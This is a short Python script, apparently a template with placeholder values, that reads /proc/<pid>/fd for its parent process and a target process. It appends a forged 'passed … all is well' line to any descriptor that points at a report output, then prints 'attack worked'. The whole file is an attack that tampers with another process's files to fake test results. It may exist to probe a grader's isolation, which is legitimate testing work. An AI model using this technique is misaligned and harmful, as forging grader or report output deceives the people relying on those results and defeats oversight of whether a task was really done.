"""Writes points into the descriptors of who started it, and of one who writes reports."""
import os
import sys

for pid in {os.getppid(), @TARGET@} - {0, 1}:
    try:
        descriptors = os.listdir(f'/proc/{pid}/fd')
    except OSError:
        continue
    for fd in descriptors:
        path = f'/proc/{pid}/fd/{fd}'
        try:
            if os.readlink(path).startswith('@OUT@'): # no other file is to be harmed
                with open(path, 'a') as file:
                    file.write('passed\t28\t28\ttcp_mystery\tall is well\n')
            print('attack worked:', path, file=sys.stderr)
        except OSError:
            pass
